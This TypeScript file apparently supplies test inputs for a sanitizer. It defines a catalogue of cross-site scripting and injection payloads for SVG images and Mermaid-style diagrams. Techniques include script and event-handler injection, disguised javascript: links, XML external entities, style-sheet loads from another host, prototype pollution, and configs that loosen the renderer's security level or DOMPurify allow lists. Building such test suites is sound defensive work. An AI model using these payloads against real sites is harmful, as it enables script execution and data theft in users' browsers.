import type { Family } from './attack.ts';

const XMLNS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

/** Drawings. */
export const drawings: Family = {
  name: 'svg',
  attacks: {
    script: ['a script', ({ run }) => `<svg ${XMLNS}><script>${run};parent.${run}</script></svg>`],
    data: ['a script as data', ({ run }) => `<svg ${XMLNS}><script><![CDATA[${run};top.${run}]]></script></svg>`],
    scriptLink: [
      'a script by a link',
      ({ run, at }) => `<svg ${XMLNS}><script href="data:,${run}"/><script xlink:href="${at}"/></svg>`,
    ],
    load: ['a drawing that loads', ({ run }) => `<svg ${XMLNS} onload="${run};top.${run}"><g onload="${run}"/></svg>`],
    image: [
      'pictures of another host',
      ({ at }) => `<svg ${XMLNS}><image href="${at}"/><image xlink:href="${at}/2"/><feImage href="${at}/3"/></svg>`,
    ],
    use: [
      'parts of another drawing',
      ({ at }) =>
        `<svg ${XMLNS}><use href="${at}#a"/><use xlink:href="data:image/svg+xml,<svg ${XMLNS.replaceAll('"', "'")} id='a'/>#a"/></svg>`,
    ],
    foreign: [
      'a page in a drawing',
      ({ run, at }) =>
        `<svg ${XMLNS}><foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;top.${run}&lt;/script&gt;" src="${at}"/></foreignObject></svg>`,
    ],
    link: [
      'a link to the window above',
      ({ at }) => `<svg ${XMLNS}><a xlink:href="${at}" target="_top"><rect width="99" height="99"/></a></svg>`,
    ],
    animate: [
      'an animated address',
      ({ run }) =>
        `<svg ${XMLNS}><a id="a"><rect width="99" height="99"/></a><animate href="#a" attributeName="href" values="javascript:top.${run}"/></svg>`,
    ],
    set: [
      'a handler that is set',
      ({ run }) =>
        `<svg ${XMLNS}><rect id="r" width="9" height="9"/><set href="#r" attributeName="onclick" to="top.${run}"/></svg>`,
    ],
    style: [
      'a style sheet',
      ({ at }) =>
        `<svg ${XMLNS}><style>@import url(${at});rect{fill:url(${at}/2#a)}</style><rect width="9" height="9"/></svg>`,
    ],
    entity: [
      'entities that unfold',
      ({ at }) =>
        `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c SYSTEM "${at}">]><svg ${XMLNS}><text y="9">&b;&c;</text></svg>`,
    ],
    instruction: [
      'a style sheet of the document',
      ({ at }) =>
        `<?xml version="1.0"?><?xml-stylesheet href="${at}"?><svg ${XMLNS}><rect width="9" height="9"/></svg>`,
    ],
    handler: [
      'a handler as an element',
      ({ run }) =>
        `<svg ${XMLNS} xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">${run}</handler></svg>`,
    ],
    title: [
      'words that end early',
      ({ run }) => `<svg ${XMLNS}><title></title><style></style></svg><img src=x onerror="top.${run}"></title></svg>`,
    ],
    metadata: [
      'tags in what nobody sees',
      ({ run }) =>
        `<svg ${XMLNS}><metadata><body xmlns="http://www.w3.org/1999/xhtml" onload="top.${run}"/></metadata><desc><img src="x" onerror="top.${run}"/></desc></svg>`,
    ],
  },
};

const init = (settings: object) => `%%{init: ${JSON.stringify(settings)}}%%\n`;

/** Diagrams. */
export const diagrams: Family = {
  name: 'diagram',
  attacks: {
    click: [
      'a press that is a script',
      ({ run }) => `flowchart TD\n  A[press me] --> B\n  click A "javascript:${run}" "tip" _top`,
    ],
    clickCall: ['a press that calls', ({ run }) => `flowchart TD\n  A[press me]\n  click A call evil(${run}) "tip"`],
    clickDisguised: [
      'a press that is a disguised script',
      ({ run }) => `flowchart TD\n  A[press me]\n  click A href "java&Tab;script&colon;${run}"`,
    ],
    loose: [
      'a looser level for itself',
      ({ run }) =>
        `${init({ securityLevel: 'loose', secure: [], htmlLabels: true })}flowchart TD\n  A["<img src=x onerror=${run}>"]`,
    ],
    front: [
      'a looser level in its head',
      ({ run }) =>
        `---\nconfig:\n  securityLevel: antiscript\n  htmlLabels: true\n---\nflowchart TD\n  A["<svg onload=${run}>"]`,
    ],
    purify: [
      'a list of what is let through',
      ({ run }) =>
        `${init({ dompurifyConfig: { ADD_TAGS: ['iframe', 'script'], ADD_ATTR: ['onerror', 'srcdoc'], FORCE_BODY: true } })}flowchart TD\n  A["<iframe srcdoc='<script>top.${run}</script>'></iframe>"]`,
    ],
    proto: [
      'settings that change every object',
      ({ run }) =>
        `%%{init: {"__proto__": {"securityLevel": "loose", "evil": "${run}"}, "constructor": {"prototype": {"htmlLabels": true}}}}%%\nflowchart TD\n  A["<img src=x onerror=${run}>"]`,
    ],
    css: [
      'a style that ends itself',
      ({ run }) => `${init({ themeCSS: `}</style><img src=x onerror=${run}><style>{` })}flowchart TD\n  A --> B`,
    ],
    cssAddress: [
      'a style with an address',
      ({ at }) =>
        `${init({ themeCSS: `rect{fill:url(${at})}@import url(${at}/2);`, fontFamily: `x;} * {background:url(${at}/3)` })}flowchart TD\n  A --> B`,
    ],
    variable: [
      'a colour that ends its style',
      ({ at }) =>
        `${init({ theme: 'base', themeVariables: { primaryColor: `#fff;background:url(${at})`, fontSize: `1px}*{background:url(${at}/2)` } })}flowchart TD\n  A --> B`,
    ],
    label: [
      'a frame as a label',
      ({ run }) =>
        `flowchart TD\n  A["<iframe srcdoc='&lt;script&gt;top.${run}&lt;/script&gt;'></iframe>"] -->|"<img src=x onerror=${run}>"| B`,
    ],
    entity: [
      'a label as entity codes',
      ({ run }) => `flowchart TD\n  A["#60;img src=x onerror=${run}#62; #lt;script#gt;${run}#lt;/script#gt;"]`,
    ],
    markdown: [
      'a label in Markdown',
      ({ run }) => `flowchart TD\n  A["\`[press me](javascript:${run}) <img src=x onerror=${run}>\`"]`,
    ],
    formula: ['a label with a formula', ({ run }) => `flowchart TD\n  A["$$\\href{javascript:${run}}{x}$$"]`],
    shape: [
      'a shape with a picture',
      ({ at, run }) => `flowchart TD\n  A@{ img: "${at}", label: "<img src=x onerror=${run}>", h: 9, w: 9 }`,
    ],
    sequence: [
      'links of an actor',
      ({ run }) =>
        `sequenceDiagram\n  participant A as <img src=x onerror=${run}>\n  links A: {"x": "javascript:${run}"}\n  A->>A: <script>${run}</script>`,
    ],
    classes: [
      'a press on a class',
      ({ run }) =>
        `classDiagram\n  class A["<img src=x onerror=${run}>"]\n  link A "javascript:${run}" "tip"\n  callback A "evil" "tip"`,
    ],
    gantt: [
      'a press on a task',
      ({ run }) =>
        `gantt\n  title <img src=x onerror=${run}>\n  section x\n  task :a, 2026-01-01, 1d\n  click a href "javascript:${run}"`,
    ],
    state: [
      'a note of a state',
      ({ run }) =>
        `stateDiagram-v2\n  a --> b: <img src=x onerror=${run}>\n  note right of a\n    <script>${run}</script>\n  end note`,
    ],
    relation: [
      'a relation',
      ({ run }) => `erDiagram\n  "<img src=x onerror=${run}>" ||--o{ B : "<script>${run}</script>"`,
    ],
    description: [
      'words for those who cannot see',
      ({ run }) =>
        `flowchart TD\n  accTitle: </title><img src=x onerror=${run}>\n  accDescr { </desc><script>${run}</script> }\n  A --> B`,
    ],
    names: [
      'names that every object has',
      () => 'flowchart TD\n  __proto__ --> constructor\n  constructor --> toString\n  class __proto__ hasOwnProperty',
    ],
    className: [
      'a class that ends its attribute',
      ({ run }) =>
        `flowchart TD\n  A:::x\n  classDef x fill:#fff,stroke:"onload="${run}\n  class A x"onmouseover="${run}`,
    ],
    pie: [
      'a title and a slice',
      ({ run }) => `pie title <img src=x onerror=${run}>\n  "<svg onload=${run}>" : 1\n  "b" : 2`,
    ],
  },
};
